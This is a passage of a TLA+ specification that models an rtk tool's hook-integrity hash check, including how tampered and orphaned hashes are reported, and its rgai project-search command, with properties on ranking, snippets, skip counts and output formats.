              file |-> Some(HashFile(HashLine(hash.value), ModeWritable)), wrote |-> "line"]
        ELSE [result |-> Ok("()"),
              file |-> Some(HashFile(HashLine(hash.value), ModeReadOnly)), wrote |-> "line"]

remove_hash_NeedsWritable(hash_now, io) ==
    IF hash_now = None THEN [result |-> Ok(FALSE), file |-> None]
    ELSE IF io \in {"remove fails", "chmod and remove fail"}
    THEN [result |-> Err("Failed to remove hash file"), file |-> hash_now]
    ELSE IF hash_now[1].mode = ModeReadOnly THEN [result |-> Ok(TRUE), file |-> hash_now]
    ELSE [result |-> Ok(TRUE), file |-> None]

\* remove_hash: its result and the hash file it leaves.  The error of
\* set_permissions(0o644) is ignored, and removing a file asks nothing of its mode.
remove_hash(hash_now, io) ==
    IF hash_now = None THEN [result |-> Ok(FALSE), file |-> None]
    ELSE IF io = "remove fails"
    THEN [result |-> Err("Failed to remove hash file"),
          file |-> Some(HashFile(hash_now[1].content, ModeWritable))]
    ELSE IF io = "chmod and remove fail"
    THEN [result |-> Err("Failed to remove hash file"), file |-> hash_now]
    ELSE [result |-> Ok(TRUE), file |-> None]

runtime_check_SkipIfSet(skip, home, hook_now, hash_now, io) ==
    LET verify == verify_hook(home, hook_now, hash_now, io)
        ends(res, located, read, warned) ==
            [result |-> res, located |-> located, read |-> read, warned |-> warned]
    IN  IF skip # None THEN ends(Ok("()"), FALSE, {}, <<>>)
        ELSE IF ~verify.result.ok THEN ends(verify.result, TRUE, verify.read, <<>>)
        ELSE IF verify.result.value.status = "Tampered"
        THEN ends([exit |-> 1], TRUE, verify.read,
                  << "rtk: hook integrity check FAILED",
                     SubSeq(verify.result.value.expected, 1, 16),
                     SubSeq(verify.result.value.actual, 1, 16) >>)
        ELSE IF verify.result.value.status = "OrphanedHash"
        THEN ends(Ok("()"), TRUE, verify.read, << "rtk: warning: hash file exists but hook is missing" >>)
        ELSE ends(Ok("()"), TRUE, verify.read, <<>>)

\* runtime_check: how it ends, whether it has looked for the hook, the files it has
\* read and what it has written on stderr
runtime_check(skip, home, hook_now, hash_now, io) ==
    LET verify == verify_hook(home, hook_now, hash_now, io)
        ends(res, located, read, warned) ==
            [result |-> res, located |-> located, read |-> read, warned |-> warned]
    IN  IF (IF skip = None THEN "" ELSE skip[1]) = "1" THEN ends(Ok("()"), FALSE, {}, <<>>)
        ELSE IF ~verify.result.ok THEN ends(verify.result, TRUE, verify.read, <<>>)
        ELSE IF verify.result.value.status = "Tampered"
        THEN ends([exit |-> 1], TRUE, verify.read,
                  << "rtk: hook integrity check FAILED",
                     SubSeq(verify.result.value.expected, 1, 16),
                     SubSeq(verify.result.value.actual, 1, 16) >>)
        ELSE IF verify.result.value.status = "OrphanedHash"
        THEN ends(Ok("()"), TRUE, verify.read, << "rtk: warning: hash file exists but hook is missing" >>)
        ELSE ends(Ok("()"), TRUE, verify.read, <<>>)

\* hash files that are not the work of store_hash: no hash, no token at all, the
\* digest of the first content in capitals, the line of the last content
ForeignHashFiles ==
    { (* not-a-valid-hash *) <<110, 111, 116, 45, 97, 45, 118, 97, 108, 105, 100, 45, 104, 97, 115, 104>>, <<10>>,
      HashLine([i \in 1..64 |-> IF Sha256Hex(HookContents[1])[i] \in 97..102
                                THEN Sha256Hex(HookContents[1])[i] - 32
                                ELSE Sha256Hex(HookContents[1])[i]]),
      HashLine(Sha256Hex(HookContents[3])) }

\* the record of a call or of a change made from outside
Call(op, io, res, seen) ==
    [op |-> op, io |-> io, result |-> res, seen |-> seen, hook |-> hook, hash_file |-> hash_file]

\* what is known of the origin of the hash file: the hook content at the last
\* store_hash that wrote its line, at the last store_hash that returned Ok, and
\* whether its content is someone else's
Origin(written, stored, foreign) == [written |-> written, stored |-> stored, foreign |-> foreign]

IntegrityInit ==
    /\ pc = "integrity"
    /\ tree = {}
    /\ args = None
    /\ out_args = None
    /\ local = None
    /\ pending = {}
    /\ outcome = DefaultOutcome
    /\ stdout = <<>>
    /\ stderr = <<>>
    /\ tracked = <<>>
    /\ result = None
    /\ fs_ops = EmptyBag
    /\ scored = EmptyBag
    /\ hook = None
    /\ hash_file = None
    /\ last = None
    /\ baseline = Origin(None, None, FALSE)
    /\ input = <<>>
    /\ model = None
    /\ given = None
    /\ returned = <<>>

\* the hook is installed or rewritten, by rtk or by anyone
WriteHook ==
    \E content \in {HookContents[k] : k \in 1..Len(HookContents)} :
        /\ hook' = Some(content)
        /\ last' = Some(Call("write hook", "ok", None, None))
        /\ UNCHANGED <<hash_file, baseline>>
        /\ UNCHANGED <<rgai_vars, query_vars>>

\* the hook is deleted
DeleteHook ==
    /\ hook # None
    /\ hook' = None
    /\ last' = Some(Call("delete hook", "ok", None, None))
    /\ UNCHANGED <<hash_file, baseline>>
    /\ UNCHANGED <<rgai_vars, query_vars>>

\* the hash file is written by someone else than store_hash
EditHashFile ==
    \E content \in ForeignHashFiles :
        /\ hash_file' = Some(HashFile(content, ModeWritable))
        /\ baseline' = Origin(None, baseline.stored, TRUE)
        /\ last' = Some(Call("edit hash file", "ok", None, None))
        /\ UNCHANGED hook
        /\ UNCHANGED <<rgai_vars, query_vars>>

StoreHash ==
    \E io \in {"ok", "read hook fails", "chmod fails", "write fails", "write truncates", "seal fails"} :
        /\ hash_file' = store_hash(hook, hash_file, io).file
        /\ baseline' =
             IF store_hash(hook, hash_file, io).wrote = "no" THEN baseline
             ELSE Origin(IF store_hash(hook, hash_file, io).wrote = "line" THEN hook ELSE None,
                         IF store_hash(hook, hash_file, io).result.ok THEN hook ELSE baseline.stored,
                         FALSE)
        /\ last' = Some(Call("store_hash", io, store_hash(hook, hash_file, io).result, None))
        /\ UNCHANGED hook
        /\ UNCHANGED <<rgai_vars, query_vars>>

RemoveHash ==
    \E io \in {"ok", "chmod fails", "remove fails", "chmod and remove fail"} :
        /\ hash_file' = remove_hash(hash_file, io).file
        /\ baseline' = IF remove_hash(hash_file, io).file = None
                       THEN Origin(None, None, FALSE) ELSE baseline
        /\ last' = Some(Call("remove_hash", io, remove_hash(hash_file, io).result, None))
        /\ UNCHANGED hook
        /\ UNCHANGED <<rgai_vars, query_vars>>

VerifyHookAt ==
    \E io \in {"ok", "read hash fails", "read hook fails"} :
        /\ last' = Some(Call("verify_hook_at", io, verify_hook_at(hook, hash_file, io).result,
                             verify_hook_at(hook, hash_file, io).read))
        /\ UNCHANGED <<hook, hash_file, baseline>>
        /\ UNCHANGED <<rgai_vars, query_vars>>

RuntimeCheck ==
    \E skip \in {None, Some("1"), Some("0"), Some("true")}, home \in BOOLEAN,
       io \in {"ok", "read hash fails", "read hook fails"} :
        /\ last' = Some(Call("runtime_check", <<skip, home, io>>,
                             runtime_check(skip, home, hook, hash_file, io).result,
                             runtime_check(skip, home, hook, hash_file, io)))
        /\ UNCHANGED <<hook, hash_file, baseline>>
        /\ UNCHANGED <<rgai_vars, query_vars>>

IntegrityNext ==
    \/ WriteHook
    \/ DeleteHook
    \/ EditHashFile
    \/ StoreHash
    \/ RemoveHash
    \/ VerifyHookAt
    \/ RuntimeCheck

IntegritySpec == IntegrityInit /\ [][IntegrityNext]_vars

(***************************************************************************)
(* build_query_model on its own                                            *)
(***************************************************************************)
\* a query is made of at most MaxWords words
MaxWords == 2

\* the words a query is made of: stop words, words whose stem is a stop word, a
\* word too short to be a term, plain words, a word and its stem, a short word
\* between a blank and punctuation
Vocabulary == << (* The *) <<84, 104, 101>>, (* Files *) <<70, 105, 108, 101, 115>>, (* uses *) <<117, 115, 101, 115>>, (* token *) <<116, 111, 107, 101, 110>>, (* finding *) <<102, 105, 110, 100, 105, 110, 103>>, (* x *) <<120>>, (* how? *) <<104, 111, 119, 63>>,
                 (* tokens *) <<116, 111, 107, 101, 110, 115>>, (*  Z!  *) <<32, 90, 33, 32>> >>

\* the queries of n words, the words separated by a blank
RECURSIVE QueriesOf(_)
QueriesOf(n) ==
    IF n = 0 THEN { <<>> }
    ELSE { IF q = <<>> THEN Vocabulary[w] ELSE q \o <<32>> \o Vocabulary[w] :
               q \in QueriesOf(n - 1), w \in 1..Len(Vocabulary) }

QueryInputs == UNION { QueriesOf(n) : n \in 0..MaxWords }

QueryInit ==
    /\ pc = "query"
    /\ tree = {}
    /\ args = None
    /\ out_args = None
    /\ local = None
    /\ pending = {}
    /\ outcome = DefaultOutcome
    /\ stdout = <<>>
    /\ stderr = <<>>
    /\ tracked = <<>>
    /\ result = None
    /\ fs_ops = EmptyBag
    /\ scored = EmptyBag
    /\ hook = None
    /\ hash_file = None
    /\ last = None
    /\ baseline = None
    /\ input \in QueryInputs
    /\ model = None
    /\ given = None
    /\ returned = <<>>

\* one call of build_query_model
BuildQueryModel ==
    /\ model = None
    /\ model' = Some(build_query_model(input))
    /\ UNCHANGED <<rgai_vars, integrity_vars, input, given, returned>>

QueryNext == BuildQueryModel

QuerySpec == QueryInit /\ [][QueryNext]_vars

(***************************************************************************)
(* Properties                                                              *)
(***************************************************************************)
\* search_project has returned its outcome to run
Searched == pc \in {"render", "done"}

\* search_project has just returned: run holds the outcome and has not rendered it.
\* The outcome is not changed afterwards.
Returned == pc = "render"

\* the walker has yielded the entry
Enumerated(e) == CopiesIn(<<"entry", e.id>>, fs_ops) > 0

\* the number of fs::read calls on the entry
Reads(e) == CopiesIn(<<"read", e.id>>, fs_ops)

\* the entry is a regular file that passes the extension and the type filter
Candidate(e) ==
    /\ ~e.err
    /\ e.is_file
    /\ is_supported_text_file(e.path)
    /\ args[1].file_type # None => matches_file_type(e.path, args[1].file_type[1])

DisplayPath(e) == compact_display_path(e.path, args[1].path)

\* the outcome holds a hit for the entry
HasHit(e) == \E i \in 1..Len(outcome.hits) : outcome.hits[i].path = DisplayPath(e)

\* the anchors analyze_file selects in the entry under the arguments of this run
Anchors(e) ==
    SelectedCandidates(ReadBytes(e), local[1].query_model, local[1].effective_context,
                       local[1].snippets_per_file)

\* path score + ln(1 + qualifying lines) + the selected scores weighted 1.0 and 0.45
Aggregate(e) ==
    LET sel == Anchors(e)
    IN  score_path(DisplayPath(e), local[1].query_model)
        + ln_1p(Len(SortedCandidates(ReadBytes(e), local[1].query_model)))
        + (IF Len(sel) >= 1 THEN sel[1].score ELSE 0)
        + (IF Len(sel) >= 2 THEN (sel[2].score * 45) \div 100 ELSE 0)

\* C1: a run whose query trims to empty fails without any file system call, and a
\* run on a nonexistent root fails after testing the root only; neither enumerates
\* or reads a file, and neither writes to the primary output.
C1_RejectedBeforeFilesystem ==
    args # None =>
        LET q == Trim(args[1].query)
            rejected == pc = "failed" /\ result # None /\ ~result[1].ok /\ stdout = <<>>
        IN  /\ q = <<>> => rejected /\ fs_ops = EmptyBag
            /\ q # <<>> /\ args[1].path = MissingDir =>
                   rejected /\ fs_ops = FsOp("exists", args[1].path)

\* a blank, non-empty query on a root that does not exist has been rejected
C1_Witness ==
    /\ pc = "failed"
    /\ args[1].query # <<>>
    /\ Trim(args[1].query) = <<>>
    /\ args[1].path = MissingDir

\* C2: in the outcome of search_project every hit has a higher score than the next
\* one, or the same score and a lowercased path that is not greater.
C2_HitsRanked ==
    Searched =>
        \A i \in 1..(Len(outcome.hits) - 1) :
            LET a == outcome.hits[i]
                b == outcome.hits[i + 1]
            IN  \/ a.score > b.score
                \/ a.score = b.score /\ StrLeq(ToLower(a.path), ToLower(b.path))

\* an outcome with a tie decided by the path and a step down in score
C2_Witness ==
    /\ Searched
    /\ \E i \in 1..(Len(outcome.hits) - 1) :
           /\ outcome.hits[i].score = outcome.hits[i + 1].score
           /\ ToLower(outcome.hits[i].path) # ToLower(outcome.hits[i + 1].path)
    /\ \E i \in 1..(Len(outcome.hits) - 1) : outcome.hits[i].score > outcome.hits[i + 1].score

\* the hits search_project returns when the walker yields the entries in id order
RECURSIVE WalkInIdOrder(_, _)
WalkInIdOrder(o, id) ==
    IF id > Cardinality(tree) THEN o
    ELSE LET e == CHOOSE x \in tree : x.id = id
         IN  WalkInIdOrder(LoopBody(o, e, Fate(e, args[1].file_type, local[1].max_file_bytes),
                                    args[1], local[1]), id + 1)

ReferenceHits == SortHits(WalkInIdOrder(DefaultOutcome, 1).hits, 1, <<>>)

PathsOf(hits) == [i \in 1..Len(hits) |-> hits[i].path]

\* C3: for a fixed query and tree the final order of the hits is the same for every
\* order in which the walker yields the files: it is the order obtained when the
\* walker yields them in id order.
C3_OrderReproducible == Searched => PathsOf(outcome.hits) = PathsOf(ReferenceHits)

\* C4: every hit of the outcome has an aggregate score of at least 2.4, the aggregate being the
\* path score plus ln(1 + qualifying lines) plus the selected line scores weighted
\* 1.0 and 0.45; a scored file whose aggregate is below 2.4 has no hit.
C4_HitsClearFloor ==
    Returned =>
        /\ \A i \in 1..Len(outcome.hits) :
               /\ outcome.hits[i].score >= 2400000
               /\ \E e \in tree : /\ CopiesIn(e.id, scored) > 0
                                  /\ DisplayPath(e) = outcome.hits[i].path
                                  /\ Aggregate(e) = outcome.hits[i].score
        /\ \A e \in tree : CopiesIn(e.id, scored) > 0 /\ Aggregate(e) < 2400000 => ~HasHit(e)

\* a file with a qualifying line and an aggregate below the floor was scored and is
\* no hit, next to a file that is one
C4_Witness ==
    /\ Searched
    /\ outcome.hits # <<>>
    /\ \E e \in tree :
           /\ CopiesIn(e.id, scored) > 0
           /\ SortedCandidates(ReadBytes(e), local[1].query_model) # <<>>
           /\ Aggregate(e) < 2400000
           /\ ~HasHit(e)

\* C5: every hit carries at least one snippet and at most snippets_per_file (1 in
\* compact mode, 2 otherwise), and matched_lines is at least the number of snippets.
C5_SnippetCount ==
    local # None =>
        \A i \in 1..Len(outcome.hits) :
            LET h == outcome.hits[i]
            IN  /\ Len(h.snippets) >= 1
                /\ Len(h.snippets) <= (IF args[1].compact THEN 1 ELSE 2)
                /\ h.matched_lines >= Len(h.snippets)

\* a compact run holds a hit for a file with several qualifying lines
C5_Witness ==
    /\ local # None
    /\ args[1].compact
    /\ \E i \in 1..Len(outcome.hits) :
           outcome.hits[i].matched_lines > 2 /\ Len(outcome.hits[i].snippets) = 1

\* C6: for every context_lines value c, two distinct anchors selected in the same
\* file have line indices that differ by more than 2 * c + 1.
C6_AnchorsApart ==
    local # None =>
        \A e \in tree :
            CopiesIn(e.id, scored) > 0 =>
                \A i, j \in 1..Len(Anchors(e)) :
                    i # j => Abs(Anchors(e)[i].line_idx - Anchors(e)[j].line_idx)
                                 > 2 * local[1].effective_context + 1

\* the enumerated candidate files whose size exceeds a number of bytes
Oversized(limit) ==
    {e \in tree : Enumerated(e) /\ Candidate(e) /\ e.meta_ok /\ e.len > limit}

\* the enumerated candidate files over the limit are the files counted in
\* skipped_large, none was read and none is a hit
SkippedAsLarge(limit) ==
    /\ outcome.skipped_large = Cardinality(Oversized(limit))
    /\ \A e \in Oversized(limit) : Reads(e) = 0 /\ CopiesIn(e.id, scored) = 0 /\ ~HasHit(e)

\* C7 as stated: a candidate file larger than max_file_kb * 1024 bytes is counted in
\* skipped_large, never read, and no hit, for every max_file_kb including 0.
C7_CeilingIsMaxFileKb == local # None => SkippedAsLarge(args[1].max_file_kb * 1024)

\* C7 amended: the ceiling is max_file_kb * 1024 bytes but never less than 1024.
C7_CeilingAtLeastOneKiB ==
    local # None =>
        SkippedAsLarge(IF args[1].max_file_kb * 1024 > 1024
                       THEN args[1].max_file_kb * 1024 ELSE 1024)

\* an oversized file that holds the query phrase verbatim was skipped
C7_Witness ==
    /\ Searched
    /\ outcome.skipped_large = 1
    /\ \E e \in tree : /\ Enumerated(e)
                       /\ e.len > 1024
                       /\ Contains(ToLower(e.bytes), local[1].query_model.phrase)
                       /\ Reads(e) = 0
                       /\ ~HasHit(e)

\* the entry is a candidate file that can be read and is neither oversized nor binary
Eligible(e) ==
    /\ Candidate(e)
    /\ e.meta_ok
    /\ e.len <= local[1].max_file_bytes
    /\ e.read_ok
    /\ ~looks_binary(ReadBytes(e))

\* what C8 says of a state: during the walk no error has been raised; when
\* search_project has returned, it returned Ok, every entry was yielded once, every
\* eligible file was scored exactly once and no other entry was, and every eligible
\* file that clears the floor is a hit
C8_State ==
    /\ pc = "walk" => result = None
    /\ Searched =>
           /\ result = None \/ result[1].ok
           /\ \A e \in tree :
                  /\ CopiesIn(<<"entry", e.id>>, fs_ops) = 1
                  /\ CopiesIn(e.id, scored) = (IF Eligible(e) THEN 1 ELSE 0)
                  /\ Eligible(e) /\ Aggregate(e) >= 2400000 /\ Anchors(e) # <<>> => HasHit(e)

\* what C8 says of a step of the walk: it consumes one entry and leaves the other
\* entries to be yielded, or the entries are exhausted and search_project returns
C8_Step ==
    pc = "walk" =>
        \/ pc' = "walk" /\ \E e \in pending : pending' = pending \ {e}
        \/ pc' = "render" /\ pending = {} /\ pending' = {}

\* C8: search_project never fails because of an individual entry: a walk error, a
\* metadata failure or a read failure skips that entry only, every other eligible
\* file is still visited exactly once and scored, and the walk ends with Ok.
C8_EntryFailuresSkipped == [](C8_State) /\ [][C8_Step]_vars

\* a walk over a walk error, a metadata failure and a read failure has returned a hit
C8_Witness ==
    /\ Searched
    /\ \E e \in tree : e.err
    /\ \E e \in tree : Candidate(e) /\ ~e.meta_ok
    /\ \E e \in tree : Candidate(e) /\ e.meta_ok /\ ~e.read_ok /\ Reads(e) = 1
    /\ outcome.hits # <<>>

\* C9: at the end of every walk scanned_files = skipped_large + skipped_binary + the
\* number of files handed to scoring.
C9_SkipsAccounted ==
    Searched =>
        outcome.scanned_files
            = outcome.skipped_large + outcome.skipped_binary + BagCardinality(scored)

\* the piece reports the skipped_large and skipped_binary counts of the outcome
ReportsSkips(piece) ==
    \/ /\ piece.fmt = "json"
       /\ {"skipped_large", "skipped_binary"} \subseteq DOMAIN piece.args[1]
       /\ piece.args[1].skipped_large = outcome.skipped_large
       /\ piece.args[1].skipped_binary = outcome.skipped_binary
    \/ /\ piece.fmt = "LF scan stats: skipped {} large, {} binary LF"
       /\ piece.args = <<outcome.skipped_large, outcome.skipped_binary>>

\* C10: every rendered result of run reports the skipped_large and skipped_binary
\* counts.
C10_SkipsReported == pc = "done" => \E k \in 1..Len(stdout) : ReportsSkips(stdout[k])


\* the rendered text of this run at another verbosity level
RenderedAt(verbose) ==
    Rendered(local[1].query, args[1].path, outcome, out_args[1].max_results,
             out_args[1].json_output, args[1].compact, verbose)

\* C11: diagnostic information goes to the diagnostic stream only: what run writes to
\* the primary output and the rendered text it hands to the tracking sink are, at
\* every verbosity level, what they are at verbosity 0.
C11_DiagnosticsOffPayload ==
    pc = "done" =>
        /\ stdout = RenderedAt(0)
        /\ \A k \in 1..Len(tracked) : tracked[k].rendered = RenderedAt(0)

\* C12 as stated: every invocation of run, a rejected one included, makes exactly one
\* call to the tracking sink.
C12_TrackedOncePerInvocation == pc \in {"done", "failed"} => Len(tracked) = 1

\* C12 amended: a run that passes the two checks makes exactly one call to the
\* tracking sink, when it returns and after the payload has been written, passing
\* the two labels, the transcript and the rendered text; a rejected run makes none.
C12_TrackedOncePerCompletedRun ==
    /\ pc # "done" => tracked = <<>>
    /\ pc = "done" =>
           /\ Len(tracked) = 1
           /\ tracked[1].printed = stdout
           /\ tracked[1].rendered = stdout
           /\ stdout # <<>>
           /\ tracked[1].raw = outcome.raw_output
           /\ tracked[1].rtk_cmd = "rtk rgai"
           /\ tracked[1].original_cmd
                  = <<"grepai search '{}' {}", local[1].query, args[1].path>>

\* a run without hits has printed its text report and made its call
C12_Witness ==
    /\ pc = "done"
    /\ outcome.hits = <<>>
    /\ ~out_args[1].json_output
    /\ Len(tracked) = 1

\* the fields of the JSON document of a run with hits
JsonFields ==
    {"query", "path", "total_hits", "shown_hits", "scanned_files", "skipped_large",
     "skipped_binary", "hits"}

\* run has printed a JSON document
PrintedJson == pc = "done" /\ out_args[1].json_output

\* the JSON document run has printed
JsonDocument == stdout[1].args[1]

\* C13 as stated: the JSON document always has the eight fields, with zero hits
\* too, and shown_hits = min(max_results, total_hits) = the length of hits.
C13_JsonFieldsAlways ==
    PrintedJson =>
        /\ stdout[1].fmt = "json"
        /\ DOMAIN JsonDocument = JsonFields
        /\ JsonDocument.shown_hits = Min2(out_args[1].max_results, JsonDocument.total_hits)
        /\ JsonDocument.shown_hits = Len(JsonDocument.hits)

\* C13 amended: the JSON document of a run with hits has the eight fields, with
\* shown_hits = min(max_results, total_hits) = the length of hits; the document of a
\* run without hits has the same fields except shown_hits, with total_hits = 0 and
\* an empty hits array.  In both, query and path are the arguments and the three
\* counters are those of the outcome.
C13_JsonFieldsByCase ==
    PrintedJson =>
        /\ stdout[1].fmt = "json"
        /\ JsonDocument.query = local[1].query
        /\ JsonDocument.path = args[1].path
        /\ JsonDocument.total_hits = Len(outcome.hits)
        /\ JsonDocument.scanned_files = outcome.scanned_files
        /\ JsonDocument.skipped_large = outcome.skipped_large
        /\ JsonDocument.skipped_binary = outcome.skipped_binary
        /\ IF outcome.hits = <<>>
           THEN /\ DOMAIN JsonDocument = JsonFields \ {"shown_hits"}
                /\ JsonDocument.hits = <<>>
           ELSE /\ DOMAIN JsonDocument = JsonFields
                /\ JsonDocument.shown_hits
                       = Min2(out_args[1].max_results, JsonDocument.total_hits)
                /\ JsonDocument.shown_hits = Len(JsonDocument.hits)

\* a JSON document that shows fewer hits than there are, and at least one
C13_Witness ==
    /\ PrintedJson
    /\ out_args[1].max_results > 0
    /\ Len(outcome.hits) > out_args[1].max_results

\* the text report and the JSON document of this run's outcome under its options
AsText ==
    Rendered(local[1].query, args[1].path, outcome, out_args[1].max_results, FALSE,
             args[1].compact, args[1].verbose)

AsJson ==
    Rendered(local[1].query, args[1].path, outcome, out_args[1].max_results, TRUE,
             args[1].compact, args[1].verbose)

\* the pieces of a text report that open a hit, and the one that closes the report
IsHitHeader(piece) == piece.fmt = "{} [{:.1}] LF"

IsCutoffLine(piece) == piece.fmt = "... +{}F LF"

\* the total a text report states
TextTotal(report) == IF report[1].fmt = "0 for '{}' LF" THEN 0 ELSE report[1].args[1]

\* the path and the score of every hit a report lists, as the text report shows them
TextListing(report) ==
    LET headers == SelectSeq(report, IsHitHeader)
    IN  [h \in 1..Len(headers) |-> headers[h].args]

JsonListing(hits) ==
    [h \in 1..Len(hits) |-> <<compact_path(hits[h].path), OneDecimal(hits[h].score)>>]

\* the first min(max_results, total) hits of the ranked outcome
FirstHits ==
    SubSeq(outcome.hits, 1, Min2(out_args[1].max_results, Len(outcome.hits)))

\* C14: for the same query, tree and options the text report and the JSON document
\* state the same total and list the same hits in the same order, the first
\* min(max_results, total) hits of the ranked outcome; the text report ends with a
\* line stating total - max_results exactly when total > max_results.
C14_RenderersAgree ==
    pc = "done" =>
        /\ stdout = (IF out_args[1].json_output THEN AsJson ELSE AsText)
        /\ TextTotal(AsText) = Len(outcome.hits)
        /\ AsJson[1].args[1].total_hits = Len(outcome.hits)
        /\ TextListing(AsText) = JsonListing(FirstHits)
        /\ [h \in 1..Len(AsJson[1].args[1].hits) |-> AsJson[1].args[1].hits[h].path]
               = PathsOf(FirstHits)
        /\ LET cutoff == SelectSeq(AsText, IsCutoffLine)
           IN  IF Len(outcome.hits) > out_args[1].max_results
               THEN /\ Len(cutoff) = 1
                    /\ cutoff[1].args = <<Len(outcome.hits) - out_args[1].max_results>>
               ELSE cutoff = <<>>

\* a text report that lists two of four ranked hits and states the rest
C14_Witness ==
    /\ pc = "done"
    /\ ~out_args[1].json_output
    /\ out_args[1].max_results = 2
    /\ Len(outcome.hits) = 4
    /\ Len(TextListing(stdout)) = 2

\* the tokens of the query that build_query_model keeps: at least two characters
\* long and no stop word
Survivors ==
    LET tokens == split_terms(ToLower(Trim(input)))
    IN  {tokens[k] : k \in {i \in 1..Len(tokens) :
                               Len(tokens[i]) >= 2 /\ tokens[i] \notin STOP_WORDS}}

\* the stems of the surviving tokens that build_query_model adds
Stems == {stem_token(t) : t \in {s \in Survivors : Len(stem_token(s)) >= 2}}

\* the terms of the model build_query_model has returned
Terms == {model[1].terms[k] : k \in 1..Len(model[1].terms)}

NoContext == Returned /\ local # None /\ local[1].effective_context = 0

\* the candidates of a scored file in the order analyze_file considers them
Ordered(e) == SortedCandidates(ReadBytes(e), local[1].query_model)

\* the first n elements of a sequence, all of them when it has fewer
Leading(s, n) == SubSeq(s, 1, IF n < Len(s) THEN n ELSE Len(s))

\* C20 as stated: with no context a candidate is rejected only when it is on the line
\* of an anchor already selected; candidates being on distinct lines, the anchors are
\* the leading candidates, adjacent or not.
C20_ExactLineExclusion ==
    NoContext =>
        \A e \in tree :
            CopiesIn(e.id, scored) > 0 =>
                Anchors(e) = Leading(Ordered(e), local[1].snippets_per_file)

\* selected is what remains of the candidates when one is rejected exactly for being
\* on the line of, or on a line next to, a candidate selected before it, until cap
\* candidates are selected
AdjacentExclusion(cands, selected, cap) ==
    /\ Len(selected) <= cap
    /\ \A k \in 1..Len(selected) : \E p \in 1..Len(cands) : cands[p] = selected[k]
    /\ \A i, j \in 1..Len(selected) :
           i < j => /\ Abs(selected[i].line_idx - selected[j].line_idx) >= 2
                    /\ \E p, q \in 1..Len(cands) :
                           p < q /\ cands[p] = selected[i] /\ cands[q] = selected[j]
    /\ \A p \in 1..Len(cands) :
           \/ \E k \in 1..Len(selected) : selected[k] = cands[p]
           \/ \E q \in 1..(p - 1) :
                  /\ \E k \in 1..Len(selected) : selected[k] = cands[q]
                  /\ Abs(cands[q].line_idx - cands[p].line_idx) <= 1
           \/ /\ Len(selected) = cap
              /\ \A k \in 1..Len(selected) : \E q \in 1..(p - 1) : cands[q] = selected[k]

\* C20 amended: with no context the window is one line on either side: a candidate is
\* rejected exactly when it is on the line of, or on a line adjacent to, an anchor
\* already selected, so two anchors of a file are at least two lines apart and two
\* candidates on adjacent lines are never both selected.
C20_AdjacentLineExclusion ==
    NoContext =>
        \A e \in tree :
            CopiesIn(e.id, scored) > 0 =>
                AdjacentExclusion(Ordered(e), Anchors(e), local[1].snippets_per_file)

\* with no context and two snippets per file, the two best candidates of a scored
\* file are on adjacent lines: the anchors are the first and the third
C20_Witness ==
    /\ NoContext
    /\ local[1].snippets_per_file = 2
    /\ \E e \in tree :
           /\ CopiesIn(e.id, scored) > 0
           /\ Len(Ordered(e)) >= 3
           /\ Abs(Ordered(e)[1].line_idx - Ordered(e)[2].line_idx) = 1
           /\ Anchors(e) = << Ordered(e)[1], Ordered(e)[3] >>

\* the file was handed to analyze_file and none of its lines qualifies
NoQualifyingLine(e) == CopiesIn(e.id, scored) > 0 /\ Ordered(e) = <<>>

\* the score of the displayed path of the entry
PathScore(e) == score_path(DisplayPath(e), local[1].query_model)

\* C21 as stated: a file with no qualifying line is excluded only when its path score
\* is below 2.4; with a path score of at least 2.4 it is a hit.
C21_PathAloneMakesHit ==
    Returned =>
        \A e \in tree : NoQualifyingLine(e) => (HasHit(e) <=> PathScore(e) >= MIN_FILE_SCORE)

\* C21 amended: a file with no qualifying line is never a hit, whatever the score of
\* its path, and every hit has at least one qualifying line.
C21_NoLineNoHit ==
    Returned =>
        /\ \A e \in tree : NoQualifyingLine(e) => ~HasHit(e)
        /\ \A i \in 1..Len(outcome.hits) : outcome.hits[i].matched_lines >= 1

\* a file whose path scores at least 2.4 and whose lines do not qualify was scored
\* and is no hit
C21_Witness ==
    /\ Returned
    /\ \E e \in tree : /\ NoQualifyingLine(e)
                       /\ PathScore(e) >= MIN_FILE_SCORE
                       /\ ~HasHit(e)

\* the hit of the outcome for the entry
HitOf(e) == outcome.hits[CHOOSE i \in 1..Len(outcome.hits) : outcome.hits[i].path = DisplayPath(e)]

\* the rows of a snippet built on an anchor with the given context: a row for the
\* anchor, no empty text, no text of more than 140 characters, line numbers that
\* increase and stay within the context of the anchor
RowsAround(rows, anchor, context) ==
    /\ \E i \in 1..Len(rows) : rows[i][1] = anchor.line_idx + 1
    /\ \A i \in 1..Len(rows) :
           /\ rows[i][2] # <<>>
           /\ Len(rows[i][2]) <= MAX_SNIPPET_LINE_LEN
           /\ rows[i][1] >= anchor.line_idx + 1 - context
           /\ rows[i][1] <= anchor.line_idx + 1 + context
           /\ i > 1 => rows[i - 1][1] < rows[i][1]

\* no line number is in two snippets
Disjoint(snippets) ==
    \A k, l \in 1..Len(snippets) :
        k # l => \A i \in 1..Len(snippets[k].lines), j \in 1..Len(snippets[l].lines) :
                     snippets[k].lines[i][1] # snippets[l].lines[j][1]

\* the snippets of a hit are built on the anchors, in their order, as RowsAround says
SnippetsOn(snippets, anchors, context) ==
    /\ Len(snippets) = Len(anchors)
    /\ \A k \in 1..Len(snippets) : RowsAround(snippets[k].lines, anchors[k], context)

\* C28: every snippet of every hit has a row for its anchor line; its rows have a
\* text that is not empty and of at most 140 characters, and line numbers that
\* increase within the context of the anchor; no line number is in two snippets of
\* one hit.
C28_SnippetRows ==
    Returned =>
        \A e \in tree :
            HasHit(e) =>
                /\ SnippetsOn(HitOf(e).snippets, Anchors(e), local[1].effective_context)
                /\ Disjoint(HitOf(e).snippets)

\* the same without the last part
C28_RowsOnly ==
    Returned =>
        \A e \in tree :
            HasHit(e) => SnippetsOn(HitOf(e).snippets, Anchors(e), local[1].effective_context)

\* what analyze_file returns for the entry with no context and one snippet
CompactHit(e) == analyze_file(DisplayPath(e), ReadBytes(e), local[1].query_model, 0, 1)

\* the only row of the only snippet of the hit is the line of the candidate
OneRow(hit, candidate, lines) ==
    /\ Len(hit.snippets) = 1
    /\ hit.snippets[1].lines =
           << << candidate.line_idx + 1,
                 truncate_chars(Trim(lines[candidate.line_idx + 1]), MAX_SNIPPET_LINE_LEN) >> >>

\* C29: in compact mode, whatever context_lines is, the search is run with no context
\* and one snippet per file; the hits are exactly the files for which analyze_file
\* returns a hit with context 0, with that hit, in score order; each has one snippet of
\* one row, the line of its best candidate, the first of them on ties.
C29_CompactIgnoresContext ==
    Returned /\ args[1].compact =>
        /\ local[1].effective_context = 0
